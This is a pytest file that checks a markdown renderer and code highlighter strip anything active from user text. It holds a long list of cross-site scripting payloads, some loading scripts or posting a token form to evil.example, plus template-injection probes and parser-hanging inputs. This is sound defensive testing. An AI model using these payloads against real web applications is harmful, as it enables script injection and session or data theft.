"""Rendering: what people wrote is shown, and nothing of it runs, loads or reaches outside."""

import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from greenroom.core.rendering import (
    COLOURED,
    RENDER_LIMIT_CHARACTERS,
    highlight_code,
    render_markdown,
)
from hanging import no_hang

TAGS = {
    "a", "abbr", "b", "blockquote", "br", "code", "dd", "del", "details", "div", "dl", "dt", "em",
    "h1", "h2", "h3", "h4", "h5", "h6", "hr", "i", "ins", "kbd", "li", "mark", "ol", "p", "pre",
    "q", "s", "samp", "small", "span", "strong", "sub", "summary", "sup", "table", "tbody", "td",
    "th", "thead", "tr", "u", "ul", "var",
}  # fmt: skip
ATTRIBUTES = {"href", "title", "rel", "class", "start", "tabindex"}
SCHEMES = ("http://", "https://", "mailto:")

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='http://evil.example/pixel.png'>",
    '<img srcset="http://evil.example/a 1x">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text x=0 y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<svg><style>@import 'http://evil.example/x.css';</style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(1)>'>",
    "<math href='javascript:alert(1)'>click</math>",
    "<math><maction actiontype='statusline#http://evil.example'>x</maction></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href='http://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>body{background:url(http://evil.example)}</style>",
    "<div style='background:url(http://evil.example)'>x</div>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<form action=http://evil.example><input name=token><button>go</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<select autofocus onfocus=alert(1)></select>",
    "<video src=http://evil.example/v.mp4 onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<source src=http://evil.example/x>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&#x0A;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='http://a.example' onclick=alert(1) id=main name=x data-key=d>x</a>",
    "<a href='http://a.example' target=_blank ping=http://evil.example>x</a>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:alert(1))",
    "[x](file:///etc/passwd)",
    '[x](http://a.example "onmouseover=alert(1) x=")',
    '[x](http://a.example/"onmouseover="alert(1))',
    "![x](javascript:alert(1))",
    "![x](http://evil.example/pixel.png)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![x" onerror="alert(1)](http://a.example)',
    "![<script>alert(1)</script>](http://a.example)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "```<script>\nalert(1)\n```",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "`<script>alert(1)</script>`",
    "==<script>alert(1)</script>==",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "<!-- <script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<title><img src=x onerror=alert(1)></title>",
    "<div hx-get='/practise/undo' hx-trigger=load data-delete=1>x</div>",
    "<span class='modal modal-open fixed inset-0'>x</span>",
    "<details class='toast' open><summary class='btn btn-primary'>x</summary></details>",
    "<p/onclick=alert(1)>x",
    "<p title='x' onclick='alert(1)'\n>x",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x00<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\ud800<script>alert(1)</script>",
    "{% debug %}{{ settings.SECRET_KEY }}{% csrf_token %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "- [ ] <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "1. <img src=x onerror=alert(1)>",
    "# <script>alert(1)</script>",
]


class Reader(HTMLParser):
    """Notes every tag and attribute that is not on the list."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.wrong.append(f"<{tag}>")
        for name, value in attrs:
            if name not in ATTRIBUTES:
                self.wrong.append(f"{name}={value}")
            if name == "class" and set((value or "").split()) & {"modal", "btn", "toast", "fixed"}:
                self.wrong.append(f"class={value}")
            address = (value or "").strip().lower()
            if name == "href" and ":" in address.split("/")[0]:
                self.wrong += [] if address.startswith(SCHEMES) else [f"href={value}"]

    def handle_comment(self, data: str) -> None:
        self.wrong.append(f"<!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        self.wrong.append(f"<!{decl}>")

    def handle_pi(self, data: str) -> None:
        self.wrong.append(f"<?{data}>")


def wrong_in(html: str) -> list[str]:
    reader = Reader()
    reader.feed(html)
    reader.close()
    return reader.wrong


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_that_runs_or_loads_comes_through(payload):
    assert wrong_in(render_markdown(payload)) == []
    assert wrong_in(render_markdown(f"Text before.\n\n{payload}\n\n- and after {payload}")) == []


@pytest.mark.parametrize("language", ["", "html", "python", "nonsense", '"><script>'])
def test_code_is_shown_and_never_run(language):
    for payload in PAYLOADS:
        assert wrong_in(highlight_code(payload, language)) == [], payload


@given(st.text(alphabet="<>/\"'=&;:`~*_[]()!#|- \n\tascriptonalerimgvhef0123{}%", max_size=200))
def test_no_text_of_signs_makes_anything_active(text):
    assert wrong_in(render_markdown(text)) == []


@example(["<script>alert(1)</script>", "<a href='java\nscript:alert(1)'>x</a>"], "")
@given(
    st.lists(st.sampled_from(PAYLOADS), min_size=2, max_size=4), st.sampled_from(["", "\n", "`"])
)
def test_payloads_joined_make_nothing_active(payloads, glue):
    assert wrong_in(render_markdown(glue.join(payloads))) == []


def test_template_syntax_is_only_text():
    assert "{{ settings.SECRET_KEY }}" in render_markdown("{{ settings.SECRET_KEY }}")


def test_links_of_the_web_stay_and_lead_away_quietly():
    html = render_markdown("[docs](https://docs.python.org/3/ 'title')")

    assert 'href="https://docs.python.org/3/"' in html
    assert 'rel="noopener noreferrer"' in html


def test_image_is_a_link_and_is_not_fetched():
    html = render_markdown("![A picture](https://a.example/x.png)")

    assert "<img" not in html
    assert '<a href="https://a.example/x.png"' in html
    assert "A picture" in html


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("==this==", "<mark>this</mark>"),
        ("a ==b c== d", "<mark>b c</mark>"),
        ("==`None`==", "<mark><code>None</code></mark>"),
        ("==**bold**==", "<mark><strong>bold</strong></mark>"),
        ("==`a==b`==", "<mark><code>a==b</code></mark>"),
        ("(==x==)", "<mark>x</mark>"),
    ],
)
def test_marks_are_shown(text, shown):
    assert shown in render_markdown(text)


@pytest.mark.parametrize(
    "text",
    ["a==b", "a==b and c==d", "a == b == c", "====", "== x ==", "`==x==`", r"\==x==", "==", "==x",
     "1==1 and x==y"],
)  # fmt: skip
def test_comparisons_are_no_marks(text):
    assert "<mark>" not in render_markdown(text)


def test_code_with_equals_signs_is_left_alone():
    assert "<mark>" not in render_markdown("```\n==x==\n```")


@pytest.mark.parametrize(
    ("text", "box"), [("- [ ] open", "☐ open"), ("- [x] done", "☑ done"), ("- [X] done", "☑ done")]
)
def test_task_lists_show_boxes(text, box):
    assert box in render_markdown(text)


def test_brackets_elsewhere_are_no_boxes():
    assert "☐" not in render_markdown("text [ ] and\n\n[ ] alone")


def test_tables_strikes_and_lists_are_shown():
    html = render_markdown("| a | b |\n|---|---|\n| 1 | ~~2~~ |\n\n3. three\n4. four")

    assert "<td>1</td>" in html
    assert "<s>2</s>" in html
    assert '<ol start="3">' in html


def test_headings_are_moved_below_the_pages_own():
    assert "<h3>One</h3>" in render_markdown("# One")
    assert "<h6>Six</h6>" in render_markdown("###### Six")
    assert "<h2>One</h2>" in render_markdown("# One", heading_offset=1)


def test_code_is_coloured_by_class_names():
    html = render_markdown("```python\ndef f(): return None\n```")

    assert '<span class="k">def</span>' in html
    assert "style=" not in html
    assert 'tabindex="0"' in html


def test_code_of_an_unknown_language_is_shown_plain():
    assert "<code>x &lt; y\n</code>" in render_markdown("```nonsense\nx < y\n```")


def test_details_of_notes_are_kept():
    html = render_markdown("<details><summary>Answer</summary>\n\n**Yes**\n\n</details>")

    assert "<summary>Answer</summary>" in html
    assert "<strong>Yes</strong>" in html


def test_long_text_is_cut_with_a_notice():
    html = render_markdown("word " * (RENDER_LIMIT_CHARACTERS // 4))

    assert "too long to show whole" in html


HOSTILE = {
    "brackets": "[" * 100_000,
    "closed brackets": "[" * 50_000 + "]" * 50_000,
    "images": "![" * 50_000,
    "quotes": ">" * 100_000,
    "lists": "\n".join(" " * (2 * depth) + "- x" for depth in range(400)),
    "backticks": "".join("`" * (1 + number % 300) + "x" for number in range(600)),
    "stars": "*" * 100_000,
    "stars and letters": "*a_" * 33_000,
    "underscores": "_" * 100_000,
    "marks": "==" * 50_000,
    "marks and letters": "==a " * 25_000,
    "half marks": "==a" * 33_000,
    "entities": "&" * 100_000,
    "tags": "<" * 100_000,
    "open tags": "<a " * 33_000,
    "nested tags": "<div>" * 20_000,
    "nested spans": "<b><i>" * 16_000,
    "comments": "<!--" * 25_000,
    "links": "[a](" * 25_000,
    "references": "[a]: b\n" * 14_000,
    "pipes": "|" * 100_000,
    "table": ("|a" * 100 + "\n" + "|-" * 100 + "\n") + ("|b" * 100 + "\n") * 480,
    "fences": "```\n" * 25_000,
    "tildes": "~" * 100_000,
    "backslashes": "\\" * 100_000,
    "newlines": "\n" * 100_000,
    "headings": "# a\n" * 25_000,
    "unclosed comment": "<!-- " + "a " * 49_000,
    "autolinks": "<http://a" * 11_000,
    "combining": "a" + "\u0301" * 99_000,
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_text_does_not_hang(name):
    with no_hang():
        html = render_markdown(HOSTILE[name])
    assert wrong_in(html) == []


@pytest.mark.parametrize("language", ["python", "html", "yaml", "ruby"])
def test_hostile_code_does_not_hang_colouring(language):
    for piece in ('"', "{{", "'''", "<a ", "/*", "\\", "a=", "$(", "-- "):
        with no_hang():
            html = highlight_code((piece * 20_000)[:20_000], language)
        assert re.sub(r"<[^>]+>", "", html)


@given(st.text(alphabet="=`\\ ab\n_", max_size=30))
def test_marks_are_the_parts_a_cloze_asks(text):
    from greenroom.core.exercises.deletions import find_deletions

    html = render_markdown(f"x {text}")
    assert html.count("<mark>") == html.count("</mark>")
    if not find_deletions(f"x {text}"):
        assert "<mark>" not in html


def test_only_what_the_style_sheet_colours_is_marked():
    style = (Path(__file__).parents[2] / "frontend" / "styles" / "highlight.css").read_text()
    assert frozenset(re.findall(r"\.([a-z][a-z0-9]{0,2})\b", style)) == COLOURED
    html = highlight_code("total = price(2)  # net", "python")
    assert "total = price(" in html
    assert '<span class="mi">2</span>' in html
    assert '<span class="c1"># net</span>' in html
